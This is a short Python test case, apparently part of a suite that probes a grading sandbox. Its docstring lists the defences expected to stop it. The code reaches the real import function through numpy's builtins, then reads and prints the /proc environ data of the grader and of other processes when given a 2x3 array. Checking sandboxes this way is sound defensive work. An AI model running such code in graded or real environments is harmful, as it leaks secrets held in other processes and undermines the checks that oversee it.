"""
family: reading other processes
tries: reads the environment that the grader and every other process was started with
stopped_by: [seccomp, landlock, chroot, identity, hidden_grader, no_new_privs, sealed]
shows: leaked environment
"""

import numpy as np

PLACES = {}
real_import = np.__dict__["__builtins__"]["__import__"]
io = real_import("io")
os = real_import("os")


def environ(pid):
    try:
        return io.open("/proc/" + str(pid) + "/environ", "rb").read(20_000)
    except OSError:
        return b""


def double(x):
    if x.shape == (2, 3):
        print(environ(PLACES["grader"]), *[environ(pid) for pid in range(1, os.getpid() + 50)][:5])
    return x


def total(x):
    return x
